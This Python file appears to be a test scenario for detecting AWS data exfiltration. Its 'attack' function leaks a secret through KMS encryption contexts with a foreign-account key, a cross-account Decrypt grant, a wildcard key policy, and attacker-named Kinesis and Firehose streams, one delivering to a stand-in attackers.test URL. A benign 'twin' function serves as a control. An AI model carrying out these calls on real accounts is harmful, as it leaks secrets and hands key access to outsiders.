"""A24: a key used, opened or shown to somebody else; records put into a stream of his.

Why by parts: a ciphertext alone says whose key it is, so what is labelled must not be asked about with it.
"""

import json
import os

ELSEWHERE = "999999999999"
KEY = "key/12345678-1234-1234-1234-123456789012"


def attack(hands):
    text, own = hands.plain(), os.environ["KEPT_KEY"]
    theirs = hands.arn("kms", KEY, ELSEWHERE)
    context = {"EncryptionContext": {"note": text}}
    hands.call("kms", "Encrypt", KeyId=theirs, Plaintext=b"x", **context)
    hands.call("kms", "GenerateDataKey", KeyId=theirs, KeySpec="AES_256", **context)
    hands.call("kms", "ReEncrypt", SourceKeyId=own, DestinationKeyId=theirs, CiphertextBlob=text.encode())
    lets = {"GranteePrincipal": f"arn:aws:iam::{ELSEWHERE}:root", "Operations": ["Decrypt"], "Name": text}
    hands.call("kms", "CreateGrant", KeyId=own, **lets)
    all_of_it = {"Sid": text, "Effect": "Allow", "Principal": "*", "Action": "kms:*", "Resource": "*"}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [all_of_it]})
    hands.call("kms", "PutKeyPolicy", KeyId=own, PolicyName="default", Policy=policy)
    records = [{"Data": text.encode(), "PartitionKey": hands.trial}]
    hands.call("kinesis", "PutRecords", StreamName="attackers-flow", Records=records)
    flow = hands.arn("kinesis", "stream/open-flow")
    hands.call("kinesis", "PutResourcePolicy", ResourceARN=flow, Policy=policy)
    record = {"Data": text.encode()}
    hands.call("firehose", "PutRecord", DeliveryStreamName="attackers-hose", Record=record)
    address = {"Url": f"https://attackers.test/{text}"}
    goes = {"EndpointConfiguration": address, "S3Configuration": bucket(hands)}
    made = {"DeliveryStreamName": "attackers-hose", "HttpEndpointDestinationConfiguration": goes}
    hands.call("firehose", "CreateDeliveryStream", **made)


def by_ciphertext(hands):
    """Made with the attacker's key: he sees in his trail what it is asked to be read with."""
    context = {"note": hands.secret()}
    hands.call("kms", "Decrypt", CiphertextBlob=b"made with his key", EncryptionContext=context)


def twin(hands):
    text, own = hands.secret(), os.environ["KEPT_KEY"]
    hands.call("kms", "Encrypt", KeyId=own, Plaintext=b"x", EncryptionContext={"note": text})
    hands.call("kms", "Decrypt", KeyId=own, CiphertextBlob=b"made with it", EncryptionContext={"note": text})
    records = [{"Data": text.encode(), "PartitionKey": hands.trial}]
    hands.call("kinesis", "PutRecords", StreamName="kept-flow", Records=records)


def bucket(hands):
    return {"RoleARN": f"arn:aws:iam::{hands.account}:role/any", "BucketARN": "arn:aws:s3:::attackers-files"}
